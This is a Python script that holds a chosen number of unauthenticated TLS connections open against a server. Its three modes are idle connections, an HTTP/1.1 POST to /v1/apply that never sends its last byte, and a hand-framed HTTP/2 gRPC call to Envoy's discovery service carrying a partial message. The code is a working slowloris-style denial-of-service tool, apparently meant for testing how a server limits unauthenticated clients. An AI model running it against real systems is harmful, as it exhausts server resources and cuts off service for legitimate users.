"""Connections of clients without a credential, for a program of their own: `strangers.py ATTACK ADDRESS PORT SOURCE COUNT`.

Keeps COUNT of them open, and opens another half a second after one has ended, until its input ends. Says `attacks` when each was open once.
"""
import asyncio
import ssl
import struct
import sys

BODY = 1_900_000
PIECE = 16_000
PAUSE = 0.5
HEAD = {":method": "POST", ":scheme": "https", ":authority": "a", "content-type": "application/grpc",
        ":path": "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"}


def context(alpn):
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    if alpn:
        tls.set_alpn_protocols([alpn])
    return tls


async def until_end(reader):
    while await reader.read(65536):
        pass


async def idle(reader, _writer):
    await until_end(reader)


async def apply(reader, writer):
    """POST /v1/apply without a credential: all of the body but its last byte."""
    writer.write(b"POST /v1/apply HTTP/1.1\r\nhost: a\r\ncontent-length: %d\r\n\r\n" % BODY)
    for _ in range(BODY // PIECE):
        if writer.transport.is_closing():
            return
        writer.write(b"#" * PIECE)
        await writer.drain()
    await until_end(reader)


def text(value):
    """HPACK, RFC 7541, 5.2: a string of less than 127 bytes, not compressed."""
    return bytes((len(value),)) + value.encode()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


async def message(reader, writer):
    """A gRPC call with an unfinished message, as far as the server's windows allow."""
    head = b"".join(b"\0" + text(name) + text(value) for name, value in HEAD.items())
    writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 4, 1, head))
    windows = {0: 65535, 1: 65535}
    unsent = struct.pack(">BI", 0, BODY) + b"#" * (BODY - 1)
    while True:
        while unsent and min(windows.values()) > 0:
            piece = unsent[:min(PIECE, *windows.values())]
            unsent = unsent[len(piece):]
            writer.write(frame(0, 0, 1, piece))
            await writer.drain()
            windows = {stream: size - len(piece) for stream, size in windows.items()}
        top = await reader.readexactly(9)
        payload = await reader.readexactly(int.from_bytes(top[:3], "big"))
        stream = int.from_bytes(top[5:], "big")
        if top[3] == 8 and stream in windows:
            windows[stream] += int.from_bytes(payload, "big")
        elif top[3] == 4 and not top[4] & 1:
            writer.write(frame(4, 1, 0))
            for at in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, at)
                windows[1] += value - 65535 if name == 4 else 0


ATTACKS = {"idle": (idle, None), "apply": (apply, "http/1.1"), "message": (message, "h2")}


async def stranger(act, tls, address, port, source, opened):
    while True:
        writer = None
        try:
            reader, writer = await asyncio.open_connection(address, port, ssl=tls, local_addr=(source, 0))
            opened.release()
            await act(reader, writer)
        except (OSError, EOFError, asyncio.IncompleteReadError):
            pass
        finally:
            if writer is not None:
                writer.transport.abort()
        await asyncio.sleep(PAUSE)


async def main(attack, address, port, source, count):
    act, alpn = ATTACKS[attack]
    tls = context(alpn)
    opened = asyncio.Semaphore(0)
    tasks = [asyncio.create_task(stranger(act, tls, address, int(port), source, opened)) for _ in range(int(count))]

    async def tell():
        for _ in tasks:
            await opened.acquire()
        print("attacks", flush=True)
    tasks.append(asyncio.create_task(tell()))
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
